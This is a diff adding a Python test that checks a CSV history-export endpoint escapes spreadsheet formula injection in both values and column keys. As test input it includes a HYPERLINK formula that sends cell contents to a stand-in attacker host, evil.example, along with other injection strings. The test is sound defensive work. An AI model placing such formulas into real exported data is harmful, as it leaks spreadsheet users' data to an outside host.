@@ -128,3 +128,21 @@ def test_export_as_csv(world: World) -> None:
     response = world.member.client().get(f"{RUN}/history/export", {"keys": "loss,acc", "format": "csv"})
     assert response.status_code == 200
     assert b"".join(response.streaming_content).decode().splitlines() == ["step,time,loss,acc", "0,1.0,0.5,1", "1,2.0,NaN,"]
+
+
+def test_the_csv_export_neutralises_formulas_in_values_and_keys(world: World) -> None:
+    import csv
+    import io
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    values = {"note": formula, "plus": "+1+2", "at": "@SUM(A1)", "minus": "-2+3", "tab": "\t=1", "ok": "fine"}
+    assert append(world, 0, [{"step": 0, "time": 1.0, "data": {**values, "=evil()": 1, "loss": -0.5}}]).status_code == 200
+    keys = ",".join([*values, "=evil()", "loss"])
+    response = world.member.client().get(f"{RUN}/history/export", {"keys": keys, "format": "csv"})
+    assert response.status_code == 200
+    header, row = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = dict(zip(header, row))
+    assert header[-2] == "'=evil()"
+    assert cells["note"] == "'" + formula
+    assert (cells["plus"], cells["at"], cells["minus"], cells["tab"]) == ("'+1+2", "'@SUM(A1)", "'-2+3", "'\t=1")
+    assert cells["ok"] == "fine" and cells["loss"] == "-0.5"  # numbers stay numbers
